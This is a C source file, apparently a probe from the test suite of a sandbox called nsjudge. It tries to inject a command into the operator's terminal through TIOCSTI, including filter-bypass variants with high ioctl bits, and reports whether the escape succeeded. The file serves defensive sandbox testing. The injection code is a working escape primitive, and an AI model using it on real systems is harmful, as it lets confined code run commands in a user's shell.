/*
 * tiocsti CMD: push CMD and a newline into the caller's terminal, as if
 * typed, so that the operator's shell runs it once nsjudge exits (the
 * class of bubblewrap's CVE-2017-5226). Tries TIOCSTI as the filter sees
 * it and with bits above the 32 the kernel reads (TIOCSTI | 1 << 32,
 * TIOCSTI | 0xffffffff << 32) on fds 0-2 and on /dev/tty, and reports
 * whether the box holds a terminal at all ("tty_nr N": field 7 of
 * /proc/self/stat, 0 when there is no controlling terminal; "isatty fd").
 * ESCAPED when any push succeeded; the test also looks for CMD's effect
 * on the host, so a lying probe cannot pass.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int push(int fd, unsigned long cmd, const char *s)
{
    for (const char *p = s; *p; p++)
        if (syscall(SYS_ioctl, fd, cmd, p) < 0)
            return -errno;
    char nl = '\n';
    return syscall(SYS_ioctl, fd, cmd, &nl) < 0 ? -errno : 0;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "true";
    /* stdout may be the very tty it attacks: report on stderr, unbuffered */
    setvbuf(stderr, NULL, _IONBF, 0);
    char stat[1024] = "";
    int fd = open("/proc/self/stat", O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, stat, sizeof stat - 1) : -1;
    stat[n > 0 ? n : 0] = 0;
    char *p = strrchr(stat, ')');
    long tty_nr = -1;
    if (p && sscanf(p + 2, "%*c %*d %*d %*d %ld", &tty_nr) != 1)
        tty_nr = -1;
    fprintf(stderr, "note: tty_nr %ld\n", tty_nr);
    int ttys = 0;
    for (int i = 0; i < 3; i++)
        if (isatty(i)) {
            fprintf(stderr, "note: isatty %d\n", i);
            ttys++;
        }
    static const unsigned long cmds[] = {TIOCSTI, TIOCSTI | 1UL << 32, TIOCSTI | 0xffffffffUL << 32};
    static const char *const names[] = {"TIOCSTI", "TIOCSTI|1<<32", "TIOCSTI|0xffffffff<<32"};
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
    int escaped = 0;
    for (int f = 0; f < 4; f++) {
        if (fds[f] < 0) {
            fprintf(stderr, "ok: /dev/tty: %s\n", strerror(errno));
            continue;
        }
        for (int c = 0; c < 3; c++) {
            int r = push(fds[f], cmds[c], cmd);
            if (r == 0) {
                fprintf(stderr, "ESCAPED: %s on fd %d pushed '%s'\n", names[c], fds[f], cmd);
                escaped++;
            } else
                fprintf(stderr, "ok: %s on fd %d: %s\n", names[c], fds[f], strerror(-r));
        }
    }
    if (escaped || tty_nr != 0 || ttys)
        fprintf(stderr, "ESCAPED: %d pushes, tty_nr %ld, %d tty fds\n", escaped, tty_nr, ttys);
    else
        fprintf(stderr, "BLOCKED: no terminal, nothing pushed\n");
    return 0;
}
